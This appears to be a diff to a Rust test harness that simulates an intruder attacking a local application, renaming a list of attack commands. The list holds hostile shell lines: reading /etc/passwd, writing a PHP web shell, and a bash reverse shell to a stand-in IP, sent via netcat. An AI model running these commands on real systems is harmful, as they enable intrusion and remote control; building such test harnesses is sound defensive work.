@@ -51,7 +51,7 @@ const HONEST: &[(&str, &str)] = &[
 const LEARNED: u64 = 65;
 
 /// The intruder's requests to the application.
-const DEEDS: &[&str] = &[
+const ACTIONS: &[&str] = &[
     "id; uname -a; cat /etc/passwd >/dev/null; ls -la /",
     "echo '<?php system($_GET[0]);' >/var/www/html/s.php",
     "(bash -c 'bash -i >& /dev/tcp/203.0.113.9/4448 0>&1' >/dev/null 2>&1 </dev/null &)",
@@ -87,8 +87,8 @@ impl World {
     /// The break-in, from another container.
     fn attack(&self) {
         let mut script = String::new();
-        for deed in DEEDS {
-            let quoted = deed.replace('\'', r"'\''");
+        for action in ACTIONS {
+            let quoted = action.replace('\'', r"'\''");
             script += &format!("printf %s '{quoted}' | nc -q2 -w9 127.0.0.1 8086; sleep 1\n");
         }
         let options = ["--network", self.network.as_str()];
